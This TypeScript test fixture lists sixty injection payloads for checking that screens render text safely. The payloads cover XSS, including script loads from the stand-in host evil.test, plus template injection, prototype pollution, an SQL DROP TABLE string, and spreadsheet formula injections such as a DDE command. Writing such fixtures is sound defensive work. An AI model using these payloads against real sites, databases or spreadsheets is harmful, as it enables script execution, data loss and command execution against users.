/** Sixty texts that would do something if any screen took them for more than text. */
const all = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//<!--',
  '<!--><script>alert(1)//-->',
  ']]><script>alert(1)</script>',
  '<script type=module>import("//evil.test")</script>',
  '<img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x:x onerror=&#97;lert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x',
  '<math><mtext><script>alert(1)</script>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<p onmouseover=alert(1)>x',
  '<div style=animation-name:x onanimationstart=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.test><button>x',
  '<button formaction="javascript:alert(1)">x',
  '<base href=//evil.test>',
  '<link rel=stylesheet href=//evil.test>',
  '<meta http-equiv=refresh content=0>',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.test"</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template.
  '${alert(1)}',
  '#{alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '__proto__',
  "'; DROP TABLE users; --",
  '=HYPERLINK("http://evil.test","x")',
  "=cmd|'/C calc'!A0",
  '+1+cmd',
  '@SUM(1+1)',
];

/** In `npm test` every eighth, of each kind one. */
export const attacks: readonly string[] = process.env.TEST_RELEASE
  ? all
  : all.filter((_, at) => at % 8 === 0);

/** All of them in as few texts of at most `most` characters as they fit in; a formula begins its text. */
export function packed(max: number): string[] {
  const texts: string[] = [];
  for (const attack of attacks) {
    const last = texts.at(-1);
    if (last === undefined || /^[=+@]/.test(attack) || last.length + 1 + attack.length > max)
      texts.push(attack);
    else texts[texts.length - 1] = `${last} ${attack}`;
  }
  return texts;
}

/** The text at a place, from the first one again after the last. */
export const turn = (texts: readonly string[], at: number): string => texts[at % texts.length] ?? '';
